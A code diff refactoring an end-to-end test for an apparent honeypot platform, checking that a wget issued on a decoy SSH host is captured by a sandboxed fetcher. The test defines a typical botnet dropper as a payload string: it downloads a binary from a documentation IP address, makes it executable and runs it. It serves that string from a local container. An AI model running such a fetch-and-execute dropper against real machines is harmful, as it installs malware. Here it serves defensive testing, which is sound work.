@@ -2,10 +2,9 @@ import { createHash } from 'node:crypto'
 import { readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { sshpassCommand } from '../../fixtures/attacker.ts'
-import { signInAdmin } from '../../fixtures/auth.ts'
-import { docker } from '../../fixtures/docker.ts'
+import { docker, runNodeOnLan } from '../../fixtures/docker.ts'
 import { expect, test } from '../../fixtures/stack.ts'
-import { adminSession, waitTerminal } from '../../fixtures/ui-helpers.ts'
+import { adminSession, sshDecky } from '../../fixtures/ui-helpers.ts'
 
 const PASSWORD = 'Artifact-Root-Login-31'
 const PAYLOAD = '#!/bin/sh\ncd /tmp || cd /var/run; wget http://198.51.100.7/x86 -O .x; chmod +x .x; ./.x\n'
@@ -19,34 +18,17 @@ test('artifacts: wget on a decky is fetched by the sandboxed fetcher, kept once 
   stack,
 }) => {
   test.setTimeout(300_000)
-  const { client } = await signInAdmin(stack)
-  const deployed = await client.fleet.deploy.mutate({
-    ini: `[art-ssh]\nservices = ssh\n\n[art-ssh.ssh]\npassword = ${PASSWORD}\n`,
-  })
-  const [row] = await waitTerminal(client, deployed.lifecycleIds, 180_000)
-  expect(row?.status).toBe('succeeded')
-  const { ip } = await client.fleet.get.query({ name: 'art-ssh' })
+  const { client, ip } = await sshDecky(stack, 'art-ssh', PASSWORD)
 
   // A web server on the decky LAN (its own container, labelled so the stack's cleanup removes it).
   const image = docker(['inspect', '-f', '{{.Config.Image}}', `${stack.instance}-art-ssh.ssh`])
   const serverIp = `${stack.subnet.split('.').slice(0, 3).join('.')}.250`
-  docker([
-    'run',
-    '-d',
-    '--name',
-    `${stack.instance}-payload-server`,
-    '--label',
-    `decnet.instance=${stack.instance}`,
-    '--network',
-    `${stack.instance}_lan`,
-    '--ip',
-    serverIp,
-    '--entrypoint',
-    '/usr/bin/node',
+  runNodeOnLan(stack.instance, {
+    name: `${stack.instance}-payload-server`,
+    ip: serverIp,
     image,
-    '-e',
-    `require('http').createServer((q, r) => { r.setHeader('content-type', 'text/x-sh'); r.end(${JSON.stringify(PAYLOAD)}) }).listen(8080)`,
-  ])
+    script: `require('http').createServer((q, r) => { r.setHeader('content-type', 'text/x-sh'); r.end(${JSON.stringify(PAYLOAD)}) }).listen(8080)`,
+  })
   const url = `http://${serverIp}:8080/payload.sh`
 
   // What the attacker sees is GNU wget's output, with the real size and type of what was served.
